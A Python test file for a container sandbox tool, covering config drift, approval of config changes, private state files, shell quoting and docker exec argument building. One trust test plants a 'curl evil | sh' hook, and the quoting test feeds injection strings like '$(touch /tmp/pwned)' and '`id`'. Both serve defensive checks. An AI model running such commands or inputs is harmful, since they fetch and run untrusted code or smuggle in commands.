"""Pure lifecycle pieces: drift, trust (approval), state, and the `alca run` argv."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from alcatraz import state
from alcatraz.config.load import load_config
from alcatraz.sandbox import drift, trust
from alcatraz.sandbox.enter import build_argv, container_workdir, single_quote
from alcatraz.statefile import RunSpec


def _project(tmp_path: Path, text: str) -> Path:
    root = tmp_path / "proj"
    root.mkdir(exist_ok=True)
    (root / ".alca.toml").write_text(text)
    return root


BASE = 'image = "alpine:3.21"\n'


def test_no_drift_for_identical_config(tmp_path: Path) -> None:
    config = load_config(_project(tmp_path, BASE), environ={})
    assert drift.compare(drift.snapshot(config), drift.snapshot(config)) == []


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ('image = "alpine:3.20"\n', "Image: alpine:3.21 → alpine:3.20"),
        (BASE + 'workdir = "/w"\n', "Workdir: /workspace → /w"),
        (BASE + 'runtime = "podman"\n', "Runtime setting: auto → podman"),
        (BASE + 'workdir_exclude = ["x"]\n', "Workdir exclude: changed"),
        (BASE + 'mounts = ["/tmp:/data"]\n', "Mounts: changed"),
        (BASE + '[commands]\nup = "true"\n', "Commands.up: changed"),
        (BASE + '[resources]\nmemory = "1g"\n', "Resources.memory: (none) → 1g"),
        (BASE + "[resources]\ncpus = 2\n", "Resources.cpus: (none) → 2.0"),
        (BASE + '[envs]\nA = "1"\n', "Envs: changed"),
        (BASE + '[network]\nports = ["8080"]\n', "Ports: changed"),
        (BASE + 'caps = ["NET_RAW"]\n', "Caps: +NET_RAW"),
    ],
)
def test_every_drift_field_is_displayed(tmp_path: Path, change: str, expected: str) -> None:
    old = drift.snapshot(load_config(_project(tmp_path, BASE), environ={}))
    new = drift.snapshot(load_config(_project(tmp_path, change), environ={}))
    assert expected in drift.compare(old, new)


def test_engine_change_is_drift(tmp_path: Path) -> None:
    snap = drift.snapshot(load_config(_project(tmp_path, BASE), environ={}))
    assert drift.compare(snap, snap, old_engine="Docker", new_engine="Podman") == [
        "Runtime: Docker → Podman"
    ]


def test_hooks_are_not_drift(tmp_path: Path) -> None:
    old = drift.snapshot(load_config(_project(tmp_path, BASE), environ={}))
    hooked = BASE + '[hooks]\npost_up = "echo hi"\n'
    new = drift.snapshot(load_config(_project(tmp_path, hooked), environ={}))
    assert drift.compare(old, new) == []


def test_interpolated_env_value_change_is_not_drift() -> None:
    old = {"envs": {"A": "${X}"}}
    assert drift.compare(old, {"envs": {"A": "${Y}"}}) == []
    assert drift.compare({"envs": {"A": "1"}}, {"envs": {"A": "2"}}) == ["Envs: changed"]
    assert drift.compare({"envs": {"A": "1"}}, {"envs": {"B": "1"}}) == ["Envs: changed"]


def test_trust_first_time_then_approved(tmp_path: Path) -> None:
    config = load_config(_project(tmp_path, BASE), environ={})
    state_dir = tmp_path / "state"
    first = trust.check(config, state_dir)
    assert not first.approved and first.first_time and "alpine:3.21" in first.diff
    trust.approve(config, state_dir)
    assert trust.check(config, state_dir).approved
    assert oct((state_dir / trust.APPROVAL_FILE).stat().st_mode & 0o777) == "0o600"


def test_trust_shows_a_hook_added_by_someone_else(tmp_path: Path) -> None:
    root = _project(tmp_path, BASE)
    state_dir = tmp_path / "state"
    trust.approve(load_config(root, environ={}), state_dir)
    (root / ".alca.toml").write_text(BASE + '[hooks]\npost_up = "curl evil | sh"\n')
    result = trust.check(load_config(root, environ={}), state_dir)
    assert not result.approved and not result.first_time
    assert "+" in result.diff and "curl evil | sh" in result.diff


def test_trust_notices_a_new_included_file(tmp_path: Path) -> None:
    root = _project(tmp_path, BASE + 'includes = ["./.alca.*.toml"]\n')
    state_dir = tmp_path / "state"
    trust.approve(load_config(root, environ={}), state_dir)
    (root / ".alca.agent.toml").write_text('[network]\nlan-access = ["*"]\n')
    result = trust.check(load_config(root, environ={}), state_dir)
    assert not result.approved
    assert ".alca.agent.toml" in result.diff and '"*"' in result.diff


def test_comment_only_edit_needs_no_new_approval(tmp_path: Path) -> None:
    root = _project(tmp_path, BASE)
    state_dir = tmp_path / "state"
    trust.approve(load_config(root, environ={}), state_dir)
    (root / ".alca.toml").write_text("# a comment\n" + BASE)
    assert trust.check(load_config(root, environ={}), state_dir).approved


def test_state_dir_is_keyed_by_real_path_outside_the_project(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    root.mkdir()
    link = tmp_path / "link"
    link.symlink_to(root)
    home = tmp_path / "home"
    assert state.project_dir(home, root) == state.project_dir(home, link)
    assert state.project_dir(home, root) != state.project_dir(home, tmp_path / "copy")
    assert home in state.project_dir(home, root).parents


def test_write_json_is_atomic_and_private(tmp_path: Path) -> None:
    target = tmp_path / "d" / "state.json"
    state.write_json(target, {"a": 1})
    assert json.loads(target.read_text()) == {"a": 1}
    assert target.stat().st_mode & 0o077 == 0
    assert [p.name for p in target.parent.iterdir()] == ["state.json"]


def test_stamps_notice_an_edit(tmp_path: Path) -> None:
    f = tmp_path / "a.toml"
    f.write_text("x")
    stamps = state.file_stamps([f])
    assert state.stamps_current(stamps)
    f.write_text("xy")
    assert not state.stamps_current(stamps)
    f.unlink()
    assert not state.stamps_current(stamps)


def test_lock_serialises(tmp_path: Path) -> None:
    import fcntl

    with state.project_lock(tmp_path):
        fd = os.open(tmp_path / "lock", os.O_RDWR)
        try:
            with pytest.raises(BlockingIOError):
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        finally:
            os.close(fd)


@pytest.mark.parametrize(
    "arg", ["plain", "with space", "it's", "$(touch /tmp/pwned)", "`id`", "a\nb", "", "'"]
)
def test_single_quote_round_trips_through_sh(arg: str) -> None:
    import subprocess

    out = subprocess.run(
        ["sh", "-c", "printf %s " + single_quote(arg)], capture_output=True, text=True, check=True
    )
    assert out.stdout == arg


def test_container_workdir_maps_subdirectories(tmp_path: Path) -> None:
    root = str(tmp_path / "p")
    assert container_workdir("/workspace", root, root) == "/workspace"
    assert container_workdir("/workspace", root, root + "/src/pkg") == "/workspace/src/pkg"
    assert container_workdir("/workspace", root, str(tmp_path)) == "/workspace"
    assert container_workdir("/workspace", root, root + "x") == "/workspace"  # sibling, not sub


def test_build_argv_with_enter_and_override_envs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.delenv("LANG", raising=False)
    spec = {
        "executable": "docker",
        "container": "alca-123",
        "workdir": "/workspace",
        "project_root": str(tmp_path),
        "enter": ". ~/.profile;",
        "override_envs": {"TERM": "${TERM}", "LANG": "${LANG}", "FIXED": "1"},
    }
    argv = build_argv(RunSpec.from_json(spec), ["echo", "it's"], str(tmp_path / "sub"), tty=False)
    assert argv == [
        "docker", "exec", "-i", "-e", "TERM=xterm", "-e", "FIXED=1",
        "-w", "/workspace/sub", "alca-123", "sh", "-c", ". ~/.profile; 'echo' 'it'\\''s'",
    ]  # fmt: skip
    direct = build_argv(
        RunSpec.from_json({**spec, "enter": ""}), ["ls", "-la"], str(tmp_path), tty=True
    )
    assert direct[:4] == ["docker", "exec", "-i", "-t"] and direct[-2:] == ["ls", "-la"]
